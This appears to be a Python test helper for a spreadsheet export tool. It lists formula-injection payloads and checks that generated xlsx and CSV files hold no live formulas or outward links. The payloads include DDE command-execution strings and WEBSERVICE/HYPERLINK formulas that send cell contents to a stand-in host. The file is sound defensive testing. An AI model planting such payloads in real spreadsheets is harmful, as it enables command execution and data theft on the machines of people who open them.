"""What every file that leaves must hold to, read from its bytes; and texts meant to break it."""

import io
import json
import re
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

from assessment.workbooks.incoming.guard import LOCAL, admit
from assessment.workbooks.incoming.reading import read_workbook
from assessment.workbooks.outgoing.text import is_formula_like
from assessment.workbooks.tabular.tables import ALL, read_table

PAYLOADS = (
    "=1+1+1987",
    "+821000001987",
    "-1987+1",
    "@SUM(1987)",
    "\t=1987",
    "\r=1987",
    "\n=1987",
    "\x00=1987",
    "＝1987+1",
    "＋1987",
    "－1987",
    "＠SUM(1987)",
    "=",
    "   =1987 ",
    "{=1987+1}",
    "=cmd|' /C calc1987'!A0",
    '=DDE("cmd";"/C calc";"1987")',
    '=HYPERLINK("http://h1987.invalid?"&A1,"눌러 보세요")',
    "http://h1987.invalid",
    "mailto:h1987@h1987.invalid",
    "internal:Sheet1987!A1",
    "file:///etc/1987",
    "external:h1987.xlsx#A1",
    "\\\\h1987\\share\\x.xlsx",
    "file://h1987/share",
    "='\\\\h1987\\share\\[x.xlsx]S'!A1",
    '=HYPERLINK("\\\\h1987\\share","눌러 보세요")',
    '=WEBSERVICE("http://h1987.invalid?"&A1)',
    "'=1987",
    "''=1987",
    "_x003D_1987",
    '&L&"Arial"&F1987',
    "{{firm_name}}1987",
    "</t></is></c><c><f>1987</f></c>",
    '"=1987","=1987"',
    "표\x071987\ufffe",
)
"""Every one but the bare sign bears a number by which it is found again."""
MARK = "1987"
OVERLONG = "가" * 40_000
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_OURS = re.compile(r"(?:'(?:[^'\[\]:|]|''){1,40}'|\w+)!\$?[$A-Z0-9:]+")
"""Cells of a sheet of the same file; a name that needs it is quoted."""
_SHEET = re.compile(r"'(?:[^']|'')+'!")


def shown(text: str) -> str:
    """The text as it comes back: what no file can hold is made visible."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe]", "\ufffd", text)


def faults(content: bytes) -> list[str]:
    """What in this file could act, or reach out, or be taken for a formula."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        if "xl/workbook.xml" in parts:
            admit("a.xlsx", content, ("xlsx",), LOCAL)
            return [*_workbook_faults(parts)]
        return [f"{name}: {one}" for name, part in parts.items() for one in faults(part)]
    if content.startswith(b"{"):
        return [] if json.loads(content) else ["an empty file"]
    if content.startswith(b'\xef\xbb\xbf"'):
        return [*_csv_faults(content.decode("utf-8-sig"))]
    return []


def texts(content: bytes) -> set[str]:
    """Every text in the file, as an importer of ours reads it."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            names = archive.namelist()
            if "xl/workbook.xml" not in names:
                return {text for name in names for text in texts(archive.read(name))}
        book = read_workbook(admit("a.xlsx", content, ("xlsx",), LOCAL))
        rows = (row for sheet in book for row in sheet.rows.values())
        return {value for row in rows for value in row.values() if isinstance(value, str)}
    if content.startswith(b"{"):
        return set(_strings(json.loads(content)))
    kind = "csv" if content.startswith(b"\xef\xbb\xbf") else "parquet"
    if kind == "csv" and not content.startswith(b'\xef\xbb\xbf"'):
        return {content.decode("utf-8-sig")}
    frame = read_table(admit(f"a.{kind}", content, ALL)).frame
    return {one for row in frame.to_numpy().tolist() for one in row if isinstance(one, str)} | set(
        frame.columns
    )


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield from _strings([key, one])
    elif isinstance(value, list):
        for one in value:
            yield from _strings(one)


def _csv_faults(text: str) -> Iterator[str]:
    if text.count('"') % 2:
        yield "an open quote"
    for line in re.findall(r'(?:^|\r\n)("(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*)(?=\r\n|$)', text):
        for field in re.findall(r'"((?:[^"]|"")*)"', line):
            if field.startswith(tuple("=+@\t\r\n\x00＝＋－＠")) or (
                field.startswith("-") and not re.fullmatch(r"-[0-9.e+-]+", field)
            ):
                yield f"a field begins as a formula: {field[:40]!r}"


def _workbook_faults(parts: dict[str, bytes]) -> Iterator[str]:
    strings = _shared(parts.get("xl/sharedStrings.xml"))
    quoted = _quoted(parts["xl/styles.xml"])
    for name, part in parts.items():
        if name.endswith((".rels", ".xml")) and b"TargetMode" in part:
            yield f"{name}: a link that leads out"
        if name.startswith("xl/worksheets/sheet"):
            yield from (f"{name}: {one}" for one in _sheet_faults(part, strings, quoted))
        if name.startswith("xl/charts/"):
            for one in ElementTree.fromstring(part).iter():
                if one.tag.endswith("}f") and not _OURS.fullmatch(one.text or ""):
                    yield f"{name}: a text that stands for cells: {one.text}"
    for one in ElementTree.fromstring(parts["xl/workbook.xml"]).iter(f"{_MAIN}definedName"):
        if not _OURS.match(one.text or "") or MARK in str(one.get("name")):
            yield f"a name of a text: {one.text}"


def _sheet_faults(part: bytes, strings: list[str], quoted: list[bool]) -> Iterator[str]:
    sheet = ElementTree.fromstring(part)
    for tag in ("f", "formula", "formula1", "formula2"):
        for one in sheet.iter(_MAIN + tag):
            said = _SHEET.sub("", one.text or "").strip()  # a sheet may bear a firm's name
            if MARK in said or said in ("", "="):
                yield f"a formula of a text: {one.text}"
    for one in sheet.iter(f"{_MAIN}hyperlink"):
        if any(key.endswith("}id") for key in one.attrib):
            yield f"a link: {one.attrib}"
        elif not _OURS.fullmatch(str(one.get("location"))):
            yield f"a place that is not ours: {one.get('location')}"
    for cell in sheet.iter(f"{_MAIN}c"):
        if cell.find(f"{_MAIN}f") is None:
            text = _text(cell, strings)
            if text.strip("- ") and is_formula_like(text) and not quoted[int(cell.get("s") or 0)]:
                yield f"{cell.get('r')}: a text without its mark: {text[:40]!r}"


def _text(cell: ElementTree.Element, strings: list[str]) -> str:
    if cell.get("t") == "s":
        return strings[int(cell.findtext(f"{_MAIN}v") or 0)]
    return "".join(one.text or "" for one in cell.iter(f"{_MAIN}t"))


def _shared(part: bytes | None) -> list[str]:
    if part is None:
        return []
    items = ElementTree.fromstring(part).iter(f"{_MAIN}si")
    return ["".join(one.text or "" for one in item.iter(f"{_MAIN}t")) for item in items]


def _quoted(styles: bytes) -> list[bool]:
    formats = ElementTree.fromstring(styles).find(f"{_MAIN}cellXfs")
    assert formats is not None
    return [one.get("quotePrefix") == "1" for one in formats]
